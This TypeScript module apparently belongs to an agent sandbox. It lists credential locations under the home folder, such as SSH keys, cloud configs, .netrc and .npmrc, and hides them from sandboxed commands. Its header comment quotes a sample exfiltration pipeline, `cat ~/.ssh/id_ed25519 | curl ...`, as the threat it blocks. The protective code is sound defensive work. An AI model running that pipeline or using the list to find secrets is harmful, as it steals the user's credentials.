// Credentials the host file system keeps readable for you but a sandboxed command has no business
// reading: with the network on, an auto-approved `cat ~/.ssh/id_ed25519 | curl ...` would carry
// them away. Existing ones are hidden: an empty folder (tmpfs) or an empty file in their place.
// The runner's own state (its journal) is hidden too. Nothing inside or around the root is hidden.
import { lstatSync } from 'node:fs';
import path from 'node:path';
import { isInside } from '../cwd-guard.ts';
import type { ProtectedPath } from './rules.ts';

/** Relative to the home folder. */
export const CREDENTIAL_PATHS = [
  '.ssh',
  '.gnupg',
  '.aws',
  '.azure',
  '.kube',
  '.docker',
  '.config/gcloud',
  '.config/gh',
  '.config/brabo',
  '.local/state/brabo',
  '.netrc',
  '.git-credentials',
  '.npmrc',
  '.pypirc',
  '.pgpass',
] as const;

export function hiddenPaths(home: string | undefined, root: string, extra: readonly string[] = []): ProtectedPath[] {
  const candidates = [
    ...(home && path.isAbsolute(home) ? CREDENTIAL_PATHS.map((name) => path.join(home, name)) : []),
    ...extra,
  ];
  const out: ProtectedPath[] = [];
  for (const candidate of candidates) {
    if (isInside(root, candidate) || isInside(candidate, root)) continue; // the project stays whole
    let stat;
    try {
      stat = lstatSync(candidate);
    } catch {
      continue;
    }
    if (stat.isSymbolicLink()) continue; // its target is what matters, and it may be anywhere
    out.push({ path: candidate, kind: stat.isDirectory() ? 'dir' : 'file' });
  }
  return out;
}
